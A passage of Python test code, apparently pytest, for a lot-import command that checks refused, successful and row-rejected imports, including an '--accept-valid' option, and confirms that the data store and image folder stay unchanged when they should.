    images = path.parent / "images"
    source = case.make(folder / case.name)
    before = dump(path)
    spring = lot_items(path, "春装")

    code, out, err, elapsed = import_file(capsys, prefix, source, case)
    expect = case.expect
    if isinstance(expect, Refused):
        assert_refused(code, out, err, elapsed, expect)
        assert dump(path) == before
        if "--accept-valid" not in case.args:
            code, out, err, elapsed = import_file(capsys, prefix, source, case, "--accept-valid")
            assert_refused(code, out, err, elapsed, expect)
            assert dump(path) == before
        no_copies(images, folder)
        return

    if isinstance(expect, Imported):
        assert code == 0, err
        doc = json.loads(out)
        assert (doc["lot"], doc["imported"], doc["rejected"]) == (case.title,
                                                                  len(expect.items), [])
        check_items(path, case.title, expect.items, folder, images)
        assert lot_items(path, case.title)[1] == (case.supplier,)
        assert lot_items(path, "春装") == spring
        no_copies(images, folder)
        return

    # Rejected rows: nothing imported, each bad row named, the count counting rows.
    assert code == 1, (out, err)
    assert "Traceback" not in err
    doc = json.loads(out)
    assert (doc["lot"], doc["imported"]) == (case.title, 0)
    got = {(r["row"], r["column"]) for r in doc["rejected"]}
    assert got == set(expect.problems), doc["rejected"]
    for row, numbers in expect.numbers.items():
        reasons = digits(" ".join(r["reason"] for r in doc["rejected"] if r["row"] == row))
        for number in numbers:
            assert re.search(rf"(?<!\d){number}(?!\d)", reasons), (row, number, reasons)
    rows = len({row for row, _ in expect.problems})
    counted = [int(n) for n in re.findall(r"\d+", digits(err.strip().splitlines()[-1]))]
    assert counted[:1] == [rows], err
    assert dump(path) == before
    no_copies(images, folder)

    code, out, err, _ = import_file(capsys, prefix, source, case, "--accept-valid")
    if not expect.valid:
        assert code == 1 and dump(path) == before
        return
    assert code == 0, err
    doc = json.loads(out)
    assert doc["imported"] == len(expect.valid)
    assert {r["row"] for r in doc["rejected"]} == {row for row, _ in expect.problems}
    check_items(path, case.title, expect.valid, folder, images)
    assert lot_items(path, "春装") == spring
    no_copies(images, folder)
